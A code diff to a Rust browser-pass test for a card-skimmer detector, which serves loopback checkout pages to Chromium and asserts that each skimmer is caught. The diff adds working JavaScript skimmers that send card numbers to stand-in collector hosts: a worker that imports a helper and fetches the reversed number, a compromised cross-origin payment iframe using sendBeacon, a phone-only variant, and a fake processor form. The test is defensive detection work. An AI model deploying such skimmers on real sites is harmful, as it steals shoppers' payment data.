@@ -1,7 +1,8 @@
 //! The browser pass against real Chromium on loopback: skimmers written to defeat the static
 //! engine (a WebSocket second stage, a bytecode VM, a cloaked one, a mobile-only one, a
-//! tag-manager injection, a worker, a keylogger, a delayed sender, a fake form over a
-//! processor iframe) must each be caught by the canary with the right host, while legitimate
+//! tag-manager injection, a worker importing its helper, a keylogger, a delayed sender, a fake
+//! form over a processor iframe, a skimmer inside a cross-origin card iframe, a phone-only one
+//! there) must each be caught by the canary with the right host, while legitimate
 //! checkouts (a processor iframe, an address lookup, analytics, a first-party checkout API,
 //! session replay with masking) raise nothing — and no collector ever receives the canary.
 //!
@@ -164,14 +165,20 @@ fn build_shop() -> Shop {
         )),
     );
 
-    // 6. In a worker: the page hands the number to a blob: worker, which sends it reversed.
+    // 6. In a worker: the page hands the number to a blob: worker, which sends it reversed
+    // with a helper it imports (`importScripts`) from the collector's host.
+    evil.set("/rev.js", js(WORKER_HELPER));
+    let worker = worker_source(
+        &e("w.evil-cdn.test", "/rev.js"),
+        &e("w.evil-cdn.test", "/w"),
+    );
     site.set(
         "/checkout/worker",
         html(checkout(
             "Worker",
             &format!(
-                "<script>(function(){{var w=new Worker(URL.createObjectURL(new Blob([\"onmessage=function(e){{fetch('{}?q='+e.data.split('').reverse().join(''),{{mode:'no-cors'}})}}\"],{{type:'text/javascript'}})));document.getElementById('cc-number').addEventListener('change',function(){{w.postMessage(this.value)}});}})();</script>",
-                e("w.evil-cdn.test", "/w")
+                "<script>(function(){{var w=new Worker(URL.createObjectURL(new Blob([{}],{{type:'text/javascript'}})));document.getElementById('cc-number').addEventListener('change',function(){{w.postMessage(this.value)}});}})();</script>",
+                serde_json::to_string(&worker).unwrap()
             ),
         )),
     );
@@ -201,12 +208,14 @@ fn build_shop() -> Shop {
     );
 
     // 9. A fake form over a processor iframe: the real card iframe is hidden, a look-alike
-    // form takes its place and sends the card JSON-escaped.
+    // form takes its place and sends the card JSON-escaped. (The processor is Razorpay:
+    // Chromium's HSTS preload list covers stripe.com and most others, which would turn the
+    // plain-HTTP test frame into an error page.)
     site.set(
         "/elements.html",
         html(format!(
             "<!doctype html><html><body><form id=\"card\"><input name=\"cardnumber\" autocomplete=\"cc-number\"><input name=\"exp-date\" autocomplete=\"cc-exp\"><input name=\"cvc\" autocomplete=\"cc-csc\"><button type=\"submit\">Pay</button></form><script>document.getElementById('card').addEventListener('submit',function(e){{e.preventDefault();fetch('{}',{{method:'POST',mode:'no-cors',body:'card[number]='+document.querySelector('[name=cardnumber]').value}})}});</script></body></html>",
-            s("api.stripe.com", "/v1/tokens")
+            s("api.razorpay.com", "/v1/tokens")
         )),
     );
     let fake = format!(
@@ -217,7 +226,41 @@ fn build_shop() -> Shop {
         "/checkout/fakeform",
         html(format!(
             "<!doctype html><html><head><meta charset=\"utf-8\"><title>Pay – Northwind Outfitters</title></head><body><h1>Payment</h1><div id=\"card-element\"><iframe src=\"{}\" title=\"Secure card payment input frame\"></iframe></div>{fake}</body></html>",
-            s("js.stripe.com", "/elements.html")
+            s("checkout.razorpay.com", "/elements.html")
+        )),
+    );
+
+    // 10. Inside a cross-origin card iframe (out of process): a compromised "payment frame"
+    // on a third-party host reads its own fields and beacons them to a collector.
+    evil.set(
+        "/frame.html",
+        html(format!(
+            "<!doctype html><html><body><form id=\"card\"><input name=\"cardnumber\" autocomplete=\"cc-number\"><input name=\"exp-date\" autocomplete=\"cc-exp\"><input name=\"cvc\" autocomplete=\"cc-csc\"><button type=\"submit\">Pay</button></form><script>document.getElementById('card').addEventListener('submit',function(e){{e.preventDefault();navigator.sendBeacon('{}','d='+encodeURIComponent(JSON.stringify({{p:document.querySelector('[name=cardnumber]').value}})));document.body.insertAdjacentHTML('beforeend','<p>Processing…</p>')}});</script></body></html>",
+            e("collect.frame-metrics.test", "/c")
+        )),
+    );
+    site.set(
+        "/checkout/iframeskim",
+        html(format!(
+            "<!doctype html><html><head><meta charset=\"utf-8\"><title>Pay – Northwind Outfitters</title></head><body><h1>Payment</h1><iframe src=\"{}\" title=\"Card payment\" width=\"400\" height=\"200\"></iframe></body></html>",
+            e("pay.card-frames.test", "/frame.html")
+        )),
+    );
+
+    // 11. The same, for phones only: the frame checks its own user agent and touch points,
+    // which the page's emulation does not reach in an out-of-process frame.
+    evil.set(
+        "/mframe.html",
+        html(format!(
+            "<!doctype html><html><body><form id=\"card\"><input name=\"cardnumber\" autocomplete=\"cc-number\"><input name=\"exp-date\" autocomplete=\"cc-exp\"><input name=\"cvc\" autocomplete=\"cc-csc\"><button type=\"submit\">Pay</button></form><script>document.getElementById('card').addEventListener('submit',function(e){{e.preventDefault();if(!/Android/.test(navigator.userAgent)||navigator.maxTouchPoints<1)return;navigator.sendBeacon('{}',btoa(document.querySelector('[name=cardnumber]').value))}});</script></body></html>",
+            e("m.frame-metrics.test", "/c")
+        )),
+    );
+    site.set(
+        "/checkout/mobileframe",
+        html(format!(
+            "<!doctype html><html><head><meta charset=\"utf-8\"><title>Pay – Northwind Outfitters</title></head><body><h1>Payment</h1><iframe src=\"{}\" title=\"Card payment\" width=\"300\" height=\"200\"></iframe></body></html>",
+            e("pay.card-frames.test", "/mframe.html")
         )),
     );
 
@@ -226,7 +269,7 @@ fn build_shop() -> Shop {
         "/checkout/processor",
         html(format!(
             "<!doctype html><html><head><meta charset=\"utf-8\"><title>Pay – Northwind Outfitters</title></head><body><h1>Payment</h1><div id=\"card-element\"><iframe src=\"{}\" title=\"Secure card payment input frame\"></iframe></div></body></html>",
-            s("js.stripe.com", "/elements.html")
+            s("checkout.razorpay.com", "/elements.html")
         )),
     );
     // Legitimate: address lookup, analytics, the first-party checkout API, and session
@@ -268,11 +311,32 @@ const EVIL_HOSTS: &[&str] = &[
     "api.addressfinder.test",
     "stats.analytics.test",
     "rec.replay.test",
+    "pay.card-frames.test",
+    "collect.frame-metrics.test",
+    "m.frame-metrics.test",
 ];
+
+/// What the worker skimmer imports: the reversing helper.
+const WORKER_HELPER: &str = "function rev(s){return s.split('').reverse().join('')}";
+
+/// The worker skimmer's own code (a blob: URL), which imports `helper`.
+fn worker_source(helper: &str, collector: &str) -> String {
+    format!(
+        "importScripts('{helper}');onmessage=function(e){{fetch('{collector}?q='+rev(e.data),{{mode:'no-cors'}})}}"
+    )
+}
+
+fn sha256_hex(bytes: &[u8]) -> String {
+    use sha2::Digest as _;
+    sha2::Sha256::digest(bytes)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect()
+}
 
 fn pins(shop: &Shop) -> Vec<String> {
     let mut out = Vec::new();
-    for h in [SHOP, "js.stripe.com", "api.stripe.com"] {
+    for h in [SHOP, "checkout.razorpay.com", "api.razorpay.com"] {
         out.push("--resolve".to_string());
         out.push(shop.site.resolve(h));
     }
@@ -355,6 +419,7 @@ fn skimmers_are_caught_and_legitimate_checkouts_are_not() {
         "keylogger",
         "delayed",
         "fakeform",
+        "iframeskim",
         "processor",
         "legit",
     ];
@@ -379,10 +444,9 @@ fn skimmers_are_caught_and_legitimate_checkouts_are_not() {
     assert_eq!(report["errors"], serde_json::json!([]), "{report:#}");
 
     // Every visit reached the card fields and pressed pay: a quiet result means something.
-    // The processor page's card fields live in a cross-origin iframe, which Chromium runs out
-    // of process; the pass does not reach into those yet, so that page is only checked for
-    // raising nothing.
-    for p in pages.iter().filter(|p| **p != "processor") {
+    // The processor's and the compromised frame's card fields live in cross-origin iframes,
+    // which Chromium runs out of process: the pass types into those in their own sessions.
+    for p in pages {
         let v = visits_for(&report, &format!("/checkout/{p}"));
         assert_eq!(v.len(), 1, "{p}: {report:#}");
         let typed = v[0]["fields_typed"].as_array().map(Vec::len).unwrap_or(0);
@@ -400,6 +464,7 @@ fn skimmers_are_caught_and_legitimate_checkouts_are_not() {
         ("keylogger", "k.fontcdn.test", "split across requests"),
         ("delayed", "late.evil-analytics.test", "separators removed"),
         ("fakeform", "ff.evil-fonts.test", "json-escaped"),
+        ("iframeskim", "collect.frame-metrics.test", "plain"),
     ] {
         let f = findings_for(
             &report,
@@ -446,9 +511,23 @@ fn skimmers_are_caught_and_legitimate_checkouts_are_not() {
             assert!(severe.is_empty(), "{page}: {severe:#?}");
         }
     }
-    // Where the card went legitimately is inventoried, not reported.
+    // Where the card went legitimately is inventoried, not reported: the shop's own API, and
+    // the processor, from inside its out-of-process iframe (whose request was held all the
+    // same: `assert_nothing_left` checks the processor never got it).
     let legit = visits_for(&report, "/checkout/legit");
     assert_eq!(legit[0]["card_received_by"], serde_json::json!([SHOP]));
+    let processor = visits_for(&report, "/checkout/processor");
+    assert_eq!(
+        processor[0]["card_received_by"],
+        serde_json::json!(["api.razorpay.com"]),
+        "{:#}",
+        processor[0]
+    );
+    let typed_in_frame = processor[0]["fields_typed"].to_string();
+    assert!(
+        typed_in_frame.contains("(iframe http://checkout.razorpay.com"),
+        "{typed_in_frame}"
+    );
     // (The address lookup runs when a postcode is typed; the pass types card fields only.)
     let outside = legit[0]["outside_hosts"].to_string();
     for h in ["stats.analytics.test", "rec.replay.test"] {
@@ -475,6 +554,41 @@ fn skimmers_are_caught_and_legitimate_checkouts_are_not() {
             "{page}: no runtime script in {runtime:#?}"
         );
     }
+
+    // A worker's code, and what it imports, are runtime rows with their URL and hash: the
+    // worker itself from its blob: URL, the helper from the collector's host.
+    let on_worker_page = |s: &&&Value| {
+        s["page"]
+            .as_str()
+            .is_some_and(|p| p.ends_with("/checkout/worker"))
+    };
+    let worker = worker_source(
+        &shop.evil.url("w.evil-cdn.test", "/rev.js"),
+        &shop.evil.url("w.evil-cdn.test", "/w"),
+    );
+    assert!(
+        runtime.iter().filter(on_worker_page).any(|s| s["url"]
+            .as_str()
+            .is_some_and(|u| u.starts_with("blob:http://northwind-outfitters.test"))
+            && s["sha256"] == sha256_hex(worker.as_bytes())),
+        "no worker script in {runtime:#?}"
+    );
+    assert!(
+        runtime
+            .iter()
+            .filter(on_worker_page)
+            .any(|s| s["url"] == shop.evil.url("w.evil-cdn.test", "/rev.js")
+                && s["sha256"] == sha256_hex(WORKER_HELPER.as_bytes())),
+        "no imported worker script in {runtime:#?}"
+    );
+    // And the compromised frame's script, which the page's session never sees.
+    assert!(
+        runtime.iter().any(|s| s["page"]
+            .as_str()
+            .is_some_and(|p| p.ends_with("/checkout/iframeskim"))
+            && s["url"] == shop.evil.url("pay.card-frames.test", "/frame.html")),
+        "no iframe script in {runtime:#?}"
+    );
 
     // The HAR file holds the sessions, with the canary masked.
     let text = std::fs::read_to_string(&har).unwrap();
@@ -517,9 +631,19 @@ fn a_mobile_only_skimmer_is_caught_as_a_phone_and_reported_as_cloaking() {
     ];
     args.extend(pins(&shop));
     args.push(shop.site.url(SHOP, "/checkout/mobile"));
+    args.push(shop.site.url(SHOP, "/checkout/mobileframe"));
     let argv: Vec<&str> = args.iter().map(String::as_str).collect();
     let (code, report, stderr) = common::scan_json(&argv);
     assert_eq!(code, 1, "{stderr}\n{report:#}");
+    // Inside an out-of-process card iframe too, the phone is a phone.
+    let f = findings_for(&report, "/checkout/mobileframe", "exfiltration-observed");
+    assert_eq!(f.len(), 1, "{report:#}");
+    assert_eq!(f[0]["hosts"], serde_json::json!(["m.frame-metrics.test"]));
+    let ev = f[0]["evidence"].as_str().unwrap_or("");
+    assert!(
+        ev.contains("profile mobile") && !ev.contains("desktop"),
+        "{ev}"
+    );
     let f = findings_for(&report, "/checkout/mobile", "exfiltration-observed");
     assert_eq!(f.len(), 1, "{report:#}");
     assert_eq!(f[0]["hosts"], serde_json::json!(["m.cdn-metrics.test"]));
